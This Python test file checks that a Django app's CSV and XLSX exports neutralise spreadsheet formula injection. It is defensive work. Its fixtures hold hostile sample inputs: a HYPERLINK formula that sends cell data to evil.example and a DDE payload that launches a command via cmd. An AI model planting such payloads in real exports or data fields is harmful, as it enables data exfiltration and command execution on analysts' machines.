"""No export cell can run as a formula (OWASP CSV injection): CSV gets a leading apostrophe,
XLSX a string cell; numbers stay numbers. In every writer and every export, rejected rows included."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from adoption.models import Adoption, Stage
from exports.choices import Flavour
from exports.formats import csv_chunks, neutralise, write_xlsx
from municipalities.models import Municipality
from tests.adoption_helpers import history
from tests.usage_support import import_text

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Щракни")', "+359 2 123", "-1+2", "@SUM(A1)", "\tx", "\rx"]


def test_each_dangerous_start_gets_an_apostrophe_and_nothing_else_does():
    assert [neutralise(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    for harmless in ("Варна", "1+1", "", "a=b", "'quoted"):
        assert neutralise(harmless) == harmless


@pytest.mark.parametrize("flavour", [Flavour.CSV, Flavour.EXCEL])
def test_the_csv_writer_neutralises_text_but_keeps_numbers(flavour):
    rows = [[text, -5, -2.5] for text in HOSTILE]
    data = b"".join(csv_chunks(["=header", "n", "x"], rows, flavour)).decode("utf-8-sig")
    delimiter = ";" if flavour == Flavour.EXCEL else ","
    parsed = list(csv.reader(io.StringIO(data, newline=""), delimiter=delimiter))
    assert parsed[0][0] == "'=header"
    assert [row[0] for row in parsed[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in parsed[1:]} == {"-5"}  # a negative number is a number, not a formula
    assert {row[2] for row in parsed[1:]} == {"-2,5" if flavour == Flavour.EXCEL else "-2.5"}


def test_the_xlsx_writer_stores_text_as_strings_never_formulas():
    out = io.BytesIO()
    write_xlsx(out, ["=header", "n"], [[text, -5] for text in HOSTILE], title="t")
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A1"].value == "=header"
    assert sheet["A1"].data_type == "s"
    for row, text in enumerate(HOSTILE, start=2):
        assert sheet.cell(row, 1).data_type == "s"
        assert sheet.cell(row, 1).value == text.replace("\r", "\n")  # XML reads a CR back as LF
        assert sheet.cell(row, 2).value == -5
        assert sheet.cell(row, 2).data_type == "n"


@pytest.fixture
def hostile_declaration(db) -> Adoption:
    """An officer's evidence and comment written to attack the analyst who exports them."""
    second = Stage.objects.filter(service__code="seos").order_by("order")[1]
    adoption = history("VAR06", "seos", [(date(2024, 1, 10), second.code)])
    adoption.evidence = HOSTILE[0]
    adoption.comment = "@SUM(1+1)*cmd|' /C calc'!A0"
    adoption.save(update_fields=["evidence", "comment"])
    return adoption


def test_officer_text_is_neutralised_in_the_adoption_lists_csv(client, analyst, hostile_declaration):
    client.force_login(analyst)
    response = client.get(reverse("adoption:list"), {"_export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(row for row in rows if row["Код"] == "VAR06" and row["Доказателство"])
    assert row["Доказателство"] == "'" + HOSTILE[0]
    assert row["Коментар"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_officer_text_is_a_string_cell_in_the_adoption_lists_xlsx(client, analyst, hostile_declaration):
    client.force_login(analyst)
    response = client.get(reverse("adoption:list"), {"_export": "xlsx"})
    data = b"".join(response.streaming_content)
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    evidence = header.index("Доказателство") + 1
    cells = [sheet.cell(row, evidence) for row in range(2, sheet.max_row + 1)]
    hostile = [cell for cell in cells if cell.value]
    assert [(cell.value, cell.data_type) for cell in hostile] == [(HOSTILE[0], "s")]


@pytest.mark.urls("tests.exports_urls")
@pytest.mark.parametrize("flavour", ["csv", "excel"])
def test_the_copy_writer_neutralises_text_columns_in_sql(client, ministry_user, flavour):
    Municipality.objects.filter(code="VAR06").update(name_bg="=1+2")
    client.force_login(ministry_user)
    response = client.get(reverse("scoped-copy", kwargs={"flag": "x"}), {"_export": flavour, "province": "VAR"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    delimiter = ";" if flavour == "excel" else ","
    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)}
    assert rows["VAR06"][1] == "'=1+2"
    assert rows["VAR06"][2].isdigit()  # the population column is a number, untouched
    assert rows["VAR01"][1] == "Аврен"


def test_operators_rejected_rows_are_neutralised(client, analyst, tmp_path):
    batch = import_text(tmp_path, "date,municipality,operation,requests\n")
    batch.rejected_rows.create(line=2, raw='=HYPERLINK("http://evil.example","x"),VAR06', reason="-bad date")
    client.force_login(analyst)
    response = client.get(reverse("exports:source", args=["usage-rejected-rows"]), {"batch": batch.pk})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    assert rows[1] == ["2", '\'=HYPERLINK("http://evil.example","x"),VAR06', "'-bad date"]


def test_a_charts_csv_neutralises_its_names_and_keeps_its_numbers():
    from dashboards.charts import Chart, Series

    chart = Chart(
        key="top", title="t", x_title="=x", y_title="y", x=["=HYPERLINK(\"http://evil\")", "Варна"],
        series=[Series(label="+label", values=[-5, 7])], kind="bar",
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(chart.csv_response().content.decode())))
    assert rows[0] == ["'=x", "'+label"]
    assert rows[1] == ['\'=HYPERLINK("http://evil")', "-5"]  # a negative number stays a number
    assert rows[2] == ["Варна", "7"]
